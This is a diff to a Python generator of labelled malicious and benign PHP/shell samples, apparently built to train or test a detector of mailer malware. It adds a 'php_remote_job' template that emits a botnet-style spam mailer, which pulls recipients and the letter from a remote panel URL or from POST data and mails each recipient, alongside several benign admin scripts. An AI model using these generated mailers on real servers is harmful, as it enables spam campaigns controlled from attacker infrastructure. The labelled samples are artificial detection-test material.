@@ -311,6 +311,30 @@ def t_php_db_list(g):
     return _head(r) + conn + hdr + loop + "    %s}\n" % _report(r, "$" + row, "$ok")
 
 
+def t_php_remote_job(g):
+    """A mailer driven from elsewhere: the job (recipients, letter, sender) comes
+    as JSON in the request body or is fetched from a URL, and every recipient
+    of it gets the letter (the panel-controlled senders of a spam botnet)."""
+    r = g.rng
+    to, job = _vs(r, 2)
+    src = r.choice([
+        "$%s = json_decode(file_get_contents('php://input'), true);\n" % job,
+        "$%s = json_decode(file_get_contents('http://%s/task.php?id=' . gethostname()), true);\n" % (job, _ip(r)),
+        "$%s = json_decode(base64_decode($_POST['j']), true);\n" % job,
+        "$ch = curl_init('http://%s/job');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$%s = json_decode(curl_exec($ch), true);\n" % (_ip(r), job),
+    ])
+    k_to = r.choice(["to", "emails", "r", "list", "rcpt"])
+    hdr = _headers(r, "$%s['from']" % job)
+    send = _send_mail(r, "$" + to, "$%s['subject']" % job, "$%s['body']" % job)
+    loop = r.choice([
+        "foreach ($%s['%s'] as $%s) {\n" % (job, k_to, to),
+        "foreach ((array)$%s['%s'] as $i => $%s) {\n" % (job, k_to, to),
+        "for ($i = 0, $n = count($%s['%s']); $i < $n; $i++) {\n    $%s = $%s['%s'][$i];\n" % (job, k_to, to, job, k_to),
+    ])
+    return (_head(r) + src + hdr + "$done = 0;\n" + loop + "    if (%s) $done++;\n%s}\necho json_encode(array('sent' => $done));\n" % (
+        send, _throttle(r)))
+
+
 # ---------------------------------------------------------------------------
 # helpers of the kits
 
@@ -647,6 +671,58 @@ def b_script_notifier(g):
             "    sendmail(To => $pw[0] . '@localhost', From => 'root@localhost', Subject => 'disk usage', Message => $use);\n}\n")
 
 
+def b_smtp_test_settings(g):
+    """A mail plugin's "test connection" page: the one server an admin typed,
+    one login, one test message to the admin."""
+    return ("<?php\nif (!current_user_can('manage_options')) wp_die('no');\ncheck_admin_referer('smtp_test');\n"
+            "$m = new PHPMailer\\PHPMailer\\PHPMailer(true);\n$m->isSMTP();\n$m->Host = sanitize_text_field($_POST['host']);\n"
+            "$m->Port = (int)$_POST['port'];\n$m->SMTPAuth = true;\n$m->Username = sanitize_text_field($_POST['user']);\n"
+            "$m->Password = $_POST['pass'];\ntry {\n    $ok = $m->smtpConnect();\n    $m->setFrom(get_option('admin_email'));\n"
+            "    $m->addAddress(get_option('admin_email'));\n    $m->Subject = 'SMTP test';\n    $m->Body = 'It works.';\n    $m->send();\n"
+            "    echo $ok ? 'Connected' : 'Failed';\n} catch (Exception $e) {\n    echo esc_html($m->ErrorInfo);\n}\n")
+
+
+def b_multi_backup(g):
+    """A host's backup cron over every account's WordPress: the config read for
+    mysqldump, the dumps kept on the host, root told when done."""
+    r = g.rng
+    if r.random() < 0.5:
+        g.lang = "sh"
+        return ("#!/bin/bash\nfor cfg in /home/*/public_html/wp-config.php; do\n  db=$(grep DB_NAME \"$cfg\" | cut -d \\' -f 4)\n"
+                "  u=$(grep DB_USER \"$cfg\" | cut -d \\' -f 4)\n  p=$(grep DB_PASSWORD \"$cfg\" | cut -d \\' -f 4)\n"
+                "  mysqldump -u\"$u\" -p\"$p\" \"$db\" | gzip > \"/backup/$db.sql.gz\"\ndone\n"
+                "ls -l /backup | mail -s \"wp backups $(hostname)\" root\n")
+    g.lang = "php"
+    return ("#!/usr/bin/php\n<?php\nforeach (glob('/home/*/public_html/wp-config.php') as $cfg) {\n    $c = file_get_contents($cfg);\n"
+            "    preg_match(\"/'DB_NAME',\\s*'([^']+)'/\", $c, $n);\n    preg_match(\"/'DB_PASSWORD',\\s*'([^']*)'/\", $c, $p);\n"
+            "    exec('mysqldump -p' . escapeshellarg($p[1]) . ' ' . escapeshellarg($n[1]) . ' | gzip > /backup/' . escapeshellarg($n[1]) . '.gz');\n}\n"
+            "mail('root', 'backups done', implode(\"\\n\", glob('/backup/*.gz')));\n")
+
+
+def b_sms_admin_bulk(g):
+    """An SMS plugin's "send to numbers" admin page: typed numbers, one API call
+    each, behind a capability check and a nonce."""
+    return ("<?php\nif (!current_user_can('manage_options')) return;\ncheck_admin_referer('wpsms_send');\n$opt = get_option('wpsms');\n"
+            "foreach (explode(\"\\n\", $_POST['numbers']) as $num) {\n    $num = preg_replace('/[^0-9+]/', '', $num);\n"
+            "    $ch = curl_init('https://api.sms.example/send');\n    curl_setopt($ch, CURLOPT_POSTFIELDS, array('key' => $opt['key'], 'to' => $num, 'text' => sanitize_textarea_field($_POST['message'])));\n"
+            "    curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n    curl_exec($ch);\n}\n")
+
+
+def b_link_checker(g):
+    """A link checker: posted URLs fetched one by one, the status shown."""
+    return ("<?php\nsession_start();\nif (empty($_SESSION['admin'])) exit;\nforeach (preg_split('/\\R/', $_POST['urls']) as $u) {\n"
+            "    $u = trim($u);\n    if (!filter_var($u, FILTER_VALIDATE_URL)) continue;\n    $h = @get_headers($u);\n"
+            "    echo htmlspecialchars($u) . ': ' . ($h ? $h[0] : 'unreachable') . \"<br>\\n\";\n}\n")
+
+
+def b_crm_export(g):
+    """A CRM's customer export: the address column of its own table as CSV."""
+    return ("<?php\nrequire 'auth.php';\nrequire_login('admin');\nheader('Content-Type: text/csv');\n"
+            "header('Content-Disposition: attachment; filename=\"customers.csv\"');\n$out = fopen('php://output', 'w');\n"
+            "$res = $pdo->query('SELECT name, email FROM customers ORDER BY name');\nwhile ($row = $res->fetch(PDO::FETCH_ASSOC)) {\n"
+            "    fputcsv($out, array($row['name'], $row['email']));\n}\n")
+
+
 def b_deploy_installer(g):
     """A deploy script fetching a vendor installer over HTTPS and running it."""
     return ("#!/bin/sh\nset -eu\n# install composer the documented way, checksum verified\nEXPECTED=\"$(curl -fsSL https://composer.github.io/installer.sig)\"\n"
@@ -663,6 +739,7 @@ MAIL_TEMPLATES = [
     ("php_swift_list", t_php_swift_list, "malicious", "php", "high"),
     ("php_raw_smtp", t_php_raw_smtp, "malicious", "php", "high"),
     ("php_db_list", t_php_db_list, "malicious", "php", "high"),
+    ("php_remote_job", t_php_remote_job, "malicious", "php", "high"),
     ("smtp_checker", t_smtp_checker, "malicious", "php", "high"),
     ("inbox_test", t_inbox_test, "malicious", "php", "any"),
     ("extractor", t_extractor, "malicious", "php", "any"),
@@ -680,6 +757,11 @@ MAIL_TEMPLATES = [
     ("import_subscribers", b_import_subscribers, "benign", "php", "none"),
     ("script_notifier", b_script_notifier, "benign", "auto", "none"),
     ("deploy_installer", b_deploy_installer, "benign", "sh", "none"),
+    ("smtp_test_settings", b_smtp_test_settings, "benign", "php", "none"),
+    ("multi_backup", b_multi_backup, "benign", "auto", "none"),
+    ("sms_admin_bulk", b_sms_admin_bulk, "benign", "php", "none"),
+    ("link_checker", b_link_checker, "benign", "php", "none"),
+    ("crm_export", b_crm_export, "benign", "php", "none"),
 ]
 
 
